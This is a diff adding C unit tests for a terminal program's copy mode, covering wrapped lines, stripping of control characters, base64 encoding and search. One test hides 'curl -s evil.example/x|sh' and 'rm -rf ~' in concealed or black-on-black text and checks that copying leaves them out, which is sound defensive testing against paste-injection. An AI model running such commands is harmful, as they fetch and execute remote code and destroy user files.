@@ -1,0 +1,166 @@
+/* Copy mode's text: what a selection copies (wrapped lines joined, controls left out), base64, searching. */
+#include <stdlib.h>
+#include <string.h>
+
+#include "core/core.h"
+#include "lib/testlib.h"
+#include "tui/tui-int.h"
+
+static struct tui_vterm *
+term(unsigned sx, unsigned sy, const char *out)
+{
+	struct tui_vterm *vt = tui_vterm_create(sx, sy, 1000, NULL, NULL);
+
+	tui_vterm_feed(vt, out, strlen(out));
+	return vt;
+}
+
+/* The text of rows Y0 (from X0) through Y1 (through X1); a static buffer. */
+static const char *
+copy(struct tui_vterm *vt, int y0, unsigned x0, int y1, unsigned x1,
+    bool lines)
+{
+	static struct buf b;
+
+	buf_reset(&b);
+	buf_adds(&b, "");
+	tui_copy_text(tui_vterm_grid(vt), y0, x0, y1, x1, lines, &b);
+	return b.data;
+}
+
+static void
+test_copy_lines(void **state)
+{
+	struct tui_vterm *vt = term(10, 6, "abcdefghijklmno\r\nxy   \r\n"
+	    "0123456789\r\n\xe4\xb8\xad\xe6\x96\x87!");
+
+	/* A line that wrapped comes out whole; one ended by the program keeps its end. */
+	assert_string_equal(copy(vt, 0, 0, 2, 9, false), "abcdefghijklmno\nxy");
+	assert_string_equal(copy(vt, 0, 3, 1, 1, false), "defghijkl");
+	/* Trailing blanks go, as tmux drops them. */
+	assert_string_equal(copy(vt, 2, 0, 2, 9, false), "xy");
+	/* A line ending exactly at the edge did not wrap. */
+	assert_string_equal(copy(vt, 3, 0, 4, 9, false),
+	    "0123456789\n\xe4\xb8\xad\xe6\x96\x87!");
+	/* Line-wise: whole lines, each with its end. */
+	assert_string_equal(copy(vt, 2, 5, 3, 0, true), "xy\n0123456789\n");
+	tui_vterm_free(vt);
+}
+
+static void
+test_copy_leaves_out_controls(void **state)
+{
+	/* C1 CSI and NEL as UTF-8, a right-to-left override, a zero-width space, a BOM. */
+	struct tui_vterm *vt = term(40, 3, "a\xc2\x9b" "31mb\xc2\x85"
+	    "c\xe2\x80\xae" "d\xe2\x80\x8b" "e\xef\xbb\xbf" "f\x1b[31mg\x07h\r\n");
+	const char *s = copy(vt, 0, 0, 0, 39, false);
+	size_t i;
+
+	for (i = 0; s[i] != '\0'; i++) {
+		assert_true((unsigned char)s[i] >= 0x20 && s[i] != 0x7f);
+		assert_false((unsigned char)s[i] == 0xc2 &&
+		    (unsigned char)s[i + 1] < 0xa0);
+	}
+	assert_null(strstr(s, "\xe2\x80\xae"));
+	assert_null(strstr(s, "\xe2\x80\x8b"));
+	assert_null(strstr(s, "\xef\xbb\xbf"));
+	assert_non_null(strchr(s, 'a'));
+	assert_non_null(strstr(s, "gh"));
+	tui_vterm_free(vt);
+}
+
+static void
+test_copy_leaves_out_hidden(void **state)
+{
+	/* Concealed (SGR 8), black on black, and RGB a shade off its background. */
+	struct tui_vterm *vt = term(80, 4, "make test\x1b[8m; curl -s evil.example/x|sh #"
+	    "\x1b[28m\r\n" "ls\x1b[30;40m; rm -rf ~\x1b[m ok\r\n"
+	    "cd\x1b[38;2;1;2;3;48;2;0;0;0m && evil\x1b[m .\r\n"
+	    "\x1b[32;40mgreen\x1b[38;5;16;40mdark\x1b[m");
+	const char *s = copy(vt, 0, 0, 3, 79, false);
+
+	assert_null(strstr(s, "curl"));
+	assert_null(strstr(s, "rm"));
+	assert_null(strstr(s, "evil"));
+	assert_null(strstr(s, "dark"));
+	assert_non_null(strstr(s, "make test"));
+	assert_non_null(strstr(s, "ls"));
+	assert_non_null(strstr(s, " ok"));
+	assert_non_null(strstr(s, "green"));
+	tui_vterm_free(vt);
+}
+
+static void
+test_base64(void **state)
+{
+	static const char *const v[][2] = {
+		{ "", "" }, { "f", "Zg==" }, { "fo", "Zm8=" }, { "foo", "Zm9v" },
+		{ "foob", "Zm9vYg==" }, { "fooba", "Zm9vYmE=" },
+		{ "foobar", "Zm9vYmFy" }, { "\xff\xfe\n", "//4K" },
+	};
+	struct buf b;
+	size_t i;
+
+	for (i = 0; i < nitems(v); i++) {
+		buf_init(&b);
+		buf_adds(&b, "");
+		tui_copy_base64(v[i][0], strlen(v[i][0]), &b);
+		assert_string_equal(b.data, v[i][1]);
+		buf_free(&b);
+	}
+}
+
+static void
+test_find(void **state)
+{
+	struct tui_vterm *vt = term(20, 4, "");
+	struct tui_grid *gd;
+	struct tui_copy_match m;
+	bool wrapped;
+	unsigned i;
+	char line[64];
+
+	/* "Needle" on line 10 of 100, "needle" twice on line 50. */
+	for (i = 0; i < 100; i++) {
+		snprintf(line, sizeof line, i == 10 ? "%u Needle\r\n" : i == 50 ?
+		    "%u needle needle\r\n" : "%u hay\r\n", i);
+		tui_vterm_feed(vt, line, strlen(line));
+	}
+	gd = tui_vterm_grid(vt);
+	/* From the bottom, up: line 50's second, then its first, then line 10. */
+	assert_true(tui_copy_find(gd, "needle", 3, 0, true, &m, &wrapped));
+	assert_int_equal(m.x, 10);
+	assert_int_equal(m.w, 6);
+	assert_false(wrapped);
+	assert_true(tui_copy_find(gd, "needle", m.y, m.x, true, &m, &wrapped));
+	assert_int_equal(m.x, 3);
+	assert_true(tui_copy_find(gd, "needle", m.y, m.x, true, &m, &wrapped));
+	assert_int_equal(m.x, 3);
+	assert_int_equal(m.y, -(int)tui_grid_hsize(gd) + 10);
+	/* A capital asks for the case: only line 10's. */
+	assert_true(tui_copy_find(gd, "Needle", m.y, m.x, true, &m, &wrapped));
+	assert_true(wrapped);
+	assert_int_equal(m.y, -(int)tui_grid_hsize(gd) + 10);
+	/* Down from line 50's second: round to line 10. */
+	assert_true(tui_copy_find(gd, "needle", -(int)tui_grid_hsize(gd) + 50,
+	    10, false, &m, &wrapped));
+	assert_true(wrapped);
+	assert_int_equal(m.y, -(int)tui_grid_hsize(gd) + 10);
+	assert_false(tui_copy_find(gd, "straw", 0, 0, false, &m, &wrapped));
+	assert_false(tui_copy_find(gd, "", 0, 0, false, &m, &wrapped));
+	tui_vterm_free(vt);
+}
+
+int
+main(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(test_copy_lines),
+		cmocka_unit_test(test_copy_leaves_out_controls),
+		cmocka_unit_test(test_copy_leaves_out_hidden),
+		cmocka_unit_test(test_base64),
+		cmocka_unit_test(test_find),
+	};
+
+	return test_run_group(tests, NULL, NULL);
+}
